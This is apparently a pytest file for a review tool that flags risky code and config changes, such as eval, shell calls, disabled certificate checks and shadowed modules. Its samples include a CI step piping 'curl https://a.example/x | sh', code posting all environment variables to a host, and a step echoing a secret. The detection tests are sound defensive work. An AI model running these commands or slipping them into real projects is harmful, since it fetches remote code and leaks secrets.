"""New code that can do what no code could, or that tests may import instead of other code, is a question."""

import pytest

from app.runners.evaluators.testing.source_questions.shadows import shadows
from tests.unit.runners.evaluators.testing.test_behaviour_questions import BASE, asked
from tests.unit.runners.evaluators.testing.test_source_questions import new_source, questions

PACKAGE = {
    "src/pkg/__init__.py": "def f(x):\n    raise NotImplementedError\n",
    "tests/__init__.py": "",
    "tests/test_pkg.py": "from pkg import f\n\n\ndef test_f():\n    assert f(1) == 2\n",
}


@pytest.mark.parametrize(
    ("code", "does"),
    [
        pytest.param("def f(x):\n    return eval('x + 1')\n", "runs texts as code", id="eval"),
        pytest.param("import marshal\n\nmarshal.loads(b'')\n", "runs texts as code", id="marshal"),
        pytest.param("import os\n\nos.system('make')\n", "starts programs", id="a shell"),
        pytest.param("from os import system as s\n\ns('make')\n", "starts programs", id="under another name"),
        pytest.param("import subprocess as s\n\ns.run(['make'])\n", "starts programs", id="a program"),
        pytest.param("import pickle\n\nX = pickle.loads(b'')\n", "loads objects that run code", id="pickle"),
        pytest.param(
            "import atexit\nimport os\n\natexit.register(os._exit, 0)\n", "ends the process", id="exit"
        ),
        pytest.param("import sys\n\nsys.excepthook = print\n", "handles uncaught exceptions", id="hook"),
        pytest.param("import gc\n\ngc.disable()\n", "switches off the collection of garbage", id="garbage"),
        pytest.param(
            "from signal import SIGTERM, SIG_IGN, signal\n\nsignal(SIGTERM, SIG_IGN)\n",
            "ignores signals",
            id="signals",
        ),
        pytest.param(
            "import secrets\n\nsecrets.token_bytes = bytes\n", "replaces parts of Python's modules", id="part"
        ),
        pytest.param(
            "import secrets as s\n\nsetattr(s, 'token_bytes', bytes)\n",
            "replaces parts of Python's modules",
            id="part by name",
        ),
        pytest.param("import logging\n\nlogging.disable()\n", "switches off log messages", id="log"),
        pytest.param(
            "try:\n    x = 1\nexcept BaseException:\n    x = 2\n",
            "catches even `KeyboardInterrupt` and raises nothing",
            id="every exception",
        ),
        pytest.param("import os\n\nos.umask(0)\n", "changes the rights of new files", id="rights"),
        pytest.param(
            "from pkgutil import resolve_name\n\nresolve_name(KEY)\n",
            "finds modules or objects by names in texts",
            id="names",
        ),
        pytest.param(
            "import importlib\n\nimportlib.import_module(KEY)\n",
            "finds modules or objects by names in texts",
            id="modules",
        ),
        pytest.param(
            "import ssl\n\nsetattr(ssl, '_create_default_https_context', print)\n",
            "trusts any certificate",
            id="certificates",
        ),
        pytest.param(
            "def f(x):\n    return get(x, verify=False)\n", "trusts any certificate", id="an option"
        ),
        pytest.param(
            "import os\nimport urllib.request\n\nurllib.request.urlopen('http://a', str(dict(os.environ)))\n",
            "reads all environment variables and reaches the network",
            id="variables",
        ),
        pytest.param("from http.server import HTTPServer\n", "waits for connections", id="server"),
        pytest.param(f"X = {'7' * 120}\n", "holds a number of more than 100 digits", id="a number"),
        pytest.param(
            "def f(valu\u0435):\n    return valu\u0435 + 1\n", "letters of several alphabets", id="a name"
        ),
    ],
)
def test_code_that_can_do_more_than_the_base_is_a_question(tmp_path, code, does) -> None:
    (text,) = asked(tmp_path, code)
    assert text.startswith("`a.py` newly "), text
    assert does in text
    assert asked(tmp_path / "as-before", code, {**BASE, "b.py": code}) == []


def test_an_answer_covers_no_other_lines(tmp_path) -> None:
    one, more = "import os\n\nos.system('make')\n", "import os\n\nos.system('make')\nos.system('make x')\n"
    (first,), (second,) = (
        questions(tmp_path / str(n), {"a.py": each}, BASE) for n, each in enumerate((one, more))
    )
    assert second.after.splitlines() == ["os.system('make')", "os.system('make x')"]
    assert first.key != second.key


@pytest.mark.parametrize(
    "code",
    [
        "import re\n\nX = re.compile('a')\n",
        "import atexit\n\natexit.register(print)\n",
        "import os\nimport urllib.request\n\nX = os.environ['HOME'], urllib.request.urlopen\n",
        "import signal\n\nsignal.signal(signal.SIGTERM, print)\n",
        "import os\n\nX = dict(os.environ)\n",
        "import pickle\n\nX = pickle.dumps(1)\n",
        "import os.path\n\nX = os.path.join('a', 'b')\n",
        "from .os import system\n\nsystem('a')\n",
        "X = '7777777'\n",
        "def f(größe, \u03b4):\n    return größe + 1\n",
        "def run(subprocess):\n    return subprocess.run()\n",
    ],
)
def test_other_code_is_no_question(tmp_path, code) -> None:
    assert asked(tmp_path, code) == []


@pytest.mark.parametrize("name", ["pkg/__init__.py", "pkg.py"])
def test_a_second_provider_of_a_module_is_a_question(tmp_path, name: str) -> None:
    (one,) = questions(tmp_path, {name: "def f(x):\n    return x + 1\n"}, PACKAGE)
    assert one.text == (
        f"`{name}` provides the module `pkg`, as `src/pkg/__init__.py` does: which of them is meant?"
    )


def test_a_module_with_the_name_of_one_of_python_is_a_question(tmp_path) -> None:
    (one,) = questions(tmp_path, {"src/random.py": "def random():\n    return 0.5\n"}, PACKAGE)
    assert (
        one.text == "`src/random.py` provides the module `random`, as `Python` does: which of them is meant?"
    )


@pytest.mark.parametrize(
    "files",
    [
        pytest.param(
            {"src/pkg/more.py": "X = 1\n", "src/pkg/types.py": "Y = 1\n"}, id="parts of the package"
        ),
        pytest.param({"src/other/__init__.py": "X = 1\n"}, id="another package"),
        pytest.param({"tools/pkg.py": "X = 1\n"}, id="where imports do not begin"),
        pytest.param({"src/pkg/__init__.py": "def f(x):\n    return x + 1\n"}, id="the package itself"),
    ],
)
def test_other_new_files_are_no_question(tmp_path, files) -> None:
    assert questions(tmp_path, files, PACKAGE) == []


def test_a_file_that_becomes_a_link_to_a_new_one_is_no_question(tmp_path) -> None:
    base = {**PACKAGE, "tool.py": "X = 1\n"}
    source = new_source(tmp_path, {"src/tool.py": "X = 2\n"}, base)
    assert [one for one, *_ in shadows(source)] == ["src/tool.py"]
    (tmp_path / "work/tool.py").unlink()
    (tmp_path / "work/tool.py").symlink_to("src/tool.py")
    assert list(shadows(source)) == []


def test_a_package_that_moves_is_no_question(tmp_path) -> None:
    moved = new_source(tmp_path, {"pkg/__init__.py": "def f(x):\n    return x + 1\n"}, PACKAGE)
    (tmp_path / "work/src/pkg/__init__.py").unlink()
    assert list(shadows(moved)) == []


WORKFLOW = "on: push\njobs:\n  test:\n    steps:\n      - run: make test\n"


@pytest.mark.parametrize(
    ("name", "line", "is_asked"),
    [
        pytest.param(
            ".github/workflows/ci.yml", "- run: curl https://a.example/x | sh", True, id="another host"
        ),
        pytest.param(
            ".github/workflows/new.yml", "- run: echo ${{ secrets.PYPI }}", True, id="a secret, a new file"
        ),
        pytest.param(".gitlab-ci.yml", "variables: {A: $DEPLOY_TOKEN}", True, id="a token"),
        pytest.param(".github/workflows/ci.yml", "- run: make lint", False, id="another step"),
        pytest.param(".github/workflows/ci.yml", "# See https://a.example", False, id="a comment"),
        pytest.param(
            "docs/deploy.yml", "- run: curl https://a.example/x | sh", False, id="a file of no service"
        ),
    ],
)
def test_a_change_of_ci_that_reaches_beyond_its_job(tmp_path, name: str, line: str, is_asked: bool) -> None:
    base = {**BASE, ".github/workflows/ci.yml": WORKFLOW}
    found = questions(tmp_path, {name: f"{WORKFLOW}      {line}\n"}, base)
    assert [line[:80] in each.text for each in found] == [True] * is_asked


HOOK = "repos:\n  - repo: https://a.example/hooks\n    rev: 1\n"
LOCK = 'source = { registry = "https://pypi.org/simple" }\nurl = "https://files.pythonhosted.org/a.whl"\n'


@pytest.mark.parametrize(
    ("name", "after", "text"),
    [
        (".claude/settings.json", "{}", "can run programs where people work"),
        ("web/.vscode/tasks.json", "{}", "can run programs where people work"),
        (".envrc", "make", "can run programs where people work"),
        (".vscode/launch.json", "{}", ""),
        (".gitattributes", "* text=auto\nsrc/** -diff\n", "`src/** -diff`"),
        (".gitattributes", "* text=auto\n", ""),
        (".github/CODEOWNERS", "# who\n* @ada\n", "`* @ada`"),
        ("tox.ini", "[testenv]\nignore_outcome = true\n", "newly ignores failures"),
        ("Makefile", "test:\n\tpytest || true\n", "newly ignores failures"),
        ("Makefile", "test:\n\tpytest || exit 1\n\trm -f x || true\n", ""),
        (".gitlab-ci.yml", "test:\n  allow_failure: true\n", "newly ignores failures"),
        ("AGENTS.md", "Run the tests.", ""),
        (
            "uv.lock",
            f'{LOCK}url = "https://user@Files.example:8443/b.whl"\n',
            "programs or packages from `files.example`",
        ),
        ("uv.lock", f'{LOCK}url = "https://files.pythonhosted.org/b.whl"\n', ""),
        ("notes.lock", f'{LOCK}url = "https://files.example/b.whl"\n', ""),
        ("requirements-dev.txt", "x @ https://files.example/x.tar.gz\n", "`files.example`"),
        (".pre-commit-config.yaml", f"{HOOK}  - repo: https://a.example/x\n", "from `https://a.example/x`"),
        (".pre-commit-config.yaml", HOOK.replace("rev: 1", "rev: 2"), ""),
        ("poetry.lock", 'url = "https://files.example/b.whl"\n', ""),
    ],
)
def test_what_runs_or_is_installed_on_other_machines(tmp_path, name: str, after: str, text: str) -> None:
    base = {**BASE, "uv.lock": LOCK, "requirements-dev.txt": "pytest\n", ".pre-commit-config.yaml": HOOK}
    found = questions(tmp_path, {name: after}, base)
    assert len(found) == bool(text)
    assert all(text in each.text for each in found)
